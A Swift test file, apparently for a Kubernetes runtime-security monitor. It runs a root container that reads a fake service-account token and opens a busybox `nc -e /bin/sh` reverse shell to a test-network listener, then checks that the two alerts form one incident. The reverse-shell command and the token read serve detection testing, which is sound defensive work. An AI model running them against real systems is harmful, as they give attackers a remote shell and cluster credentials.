// SPDX-License-Identifier: Apache-2.0
// Live, root, a real runc container shaped like a pod: it reads its service-account token, then
// opens a busybox reverse shell to a listener on TEST-NET-2. The real `runtime-watch run` (recording
// the events too) must group both alerts into one incident whose id they all carry, and
// `runtime-watch incidents` must print the same block from the live alert file and from a replay
// of the recorded trace (replay reproduces live incidents).

import Foundation
import RuntimeWatchCore
import XCTest

final class IncidentLiveTests: XCTestCase {
    static let serviceAccountPath = "/var/run/secrets/kubernetes.io/serviceaccount"

    func testAttackChainInOnePodIsOneIncidentLiveAndInReplay() throws {
        try requireRoot("incident live test")
        try requireTools([(path: RuncContainer.runc, package: "runc"), (path: BusyboxRootfs.busybox, package: "busybox-static"),
                          (path: TestNetwork.ip, package: "iproute2"), (path: NetnsListener.python, package: "python3")])
        let scratch = try TemporaryDirectory(prefix: "rw-incident")
        addTeardownBlock { scratch.remove() }
        let kubelet = try TemporaryDirectory(prefix: "rw-kubelet")
        addTeardownBlock { kubelet.remove() }
        let network = try TestNetwork()
        addTeardownBlock { network.teardown() }

        var configuration = RuncContainer.Configuration()
        configuration.podName = "incident-\(RuncContainer.randomHex(bytes: 3))"
        configuration.namespace = "shop"
        configuration.networkNamespacePath = network.pathB
        let link = kubelet.at("serviceaccount-volume")
        configuration.binds = [BindMount(hostPath: link, containerPath: Self.serviceAccountPath)]
        let container = try RuncContainer(configuration)
        addTeardownBlock { container.stop() }
        let volume = try FakeKubeletVolume(kubeletRoot: kubelet.path, podUID: container.podUID, token: "eyJhbGciOiJSUzI1NiJ9.incident.sig")
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: volume.volumeDir)
        try container.start()

        let alertsPath = scratch.at("alerts.jsonl"), tracePath = scratch.at("trace.jsonl")
        let monitor = try EgressLiveChild(arguments: ["run", "--output", alertsPath, "--record", tracePath, "--listen", "off",
                                                      "--kubelet-root", kubelet.path, "--duration", "120"],
                                          scratch: scratch, logName: "run.log")
        addTeardownBlock { monitor.stop() }
        guard monitor.waitForLog("monitoring", timeout: .seconds(30)) else { return XCTFail("monitor not ready:\n\(monitor.log)") }
        usleep(1_500_000) // the token watcher marks its files after process capture starts

        let token = try container.exec(["cat", Self.serviceAccountPath + "/token"])
        XCTAssertEqual(token.stdout, "eyJhbGciOiJSUzI1NiJ9.incident.sig")
        usleep(300_000)
        let listener = try network.startListener(sending: "id", timeout: .seconds(10))
        let shell = try container.exec(["busybox", "nc", TestNetwork.addressA, String(listener.port), "-e", "/bin/sh"], timeout: .seconds(15))
        let seen = try listener.result()
        XCTAssertTrue(seen.received.hasPrefix("uid=0(root)"), "listener got: \(seen.received); nc: \(shell)")

        let shortID = String(container.id.prefix(12))
        func mine() -> [EndToEndAlert] { ((try? egressLiveAlerts(in: alertsPath)) ?? []).filter { $0.containerID == shortID } }
        _ = waitUntil(timeout: .seconds(20)) { mine().contains { $0.ruleID == "reverse-shell" } }
        usleep(1_000_000)
        monitor.stop()

        let alerts = mine()
        // The shell's connect may also raise unexpected-outbound-connection (a public address on an
        // unusual port): the egress step of the same chain.
        let members = alerts.filter { $0.ruleID != "incident" }
        XCTAssertEqual(Set(members.map(\.ruleID)).subtracting(["unexpected-outbound-connection"]), ["service-account-token-read", "reverse-shell"],
                       "\(alerts)\nlog:\n\(monitor.log)")
        let ids = Set(alerts.map { ($0.raw["output_fields"] as? [String: Any])?["rw.incident.id"] as? String ?? "none" })
        XCTAssertEqual(ids.count, 1, "one incident, its id on every alert of the pod: \(ids)")
        XCTAssertFalse(ids.contains("none"))

        // One block for the pod, the same from the live alert file and from the replayed recording.
        let binary = try runtimeWatchBinary()
        func block(_ file: String) throws -> String? {
            let result = try CommandRunner.run([binary, "incidents", file], timeout: .seconds(60))
            XCTAssertEqual(result.status, 0, "\(result)")
            let blocks = result.stdout.components(separatedBy: "\n\n").filter { $0.hasPrefix("Incident ") && $0.contains(" pod shop/\(configuration.podName)\n") }
            XCTAssertEqual(blocks.count, 1, "incidents \(file):\n\(result.stdout)")
            return blocks.first
        }
        let live = try block(alertsPath), replayed = try block(tracePath)
        XCTAssertEqual(live, replayed, "replay of the recording gives the live incident")
        let lines = live?.split(separator: "\n").map(String.init) ?? []
        XCTAssertEqual(lines.count, 2 + members.count, "header, summary, one line per alert: \(live ?? "")")
        XCTAssertTrue(lines.first?.hasPrefix("Incident \(ids.first!) ") == true, live ?? "")
        let tokenLine = lines.firstIndex { $0.contains(" service-account-token-read cat(") }
        let shellLine = lines.firstIndex { $0.contains(" reverse-shell sh(") && $0.contains(" \(TestNetwork.addressA):\(listener.port) ") }
        XCTAssertNotNil(tokenLine, live ?? ""); XCTAssertNotNil(shellLine, live ?? "")
        if let tokenLine, let shellLine { XCTAssertLessThan(tokenLine, shellLine, "timeline in order: \(live ?? "")") }
    }
}
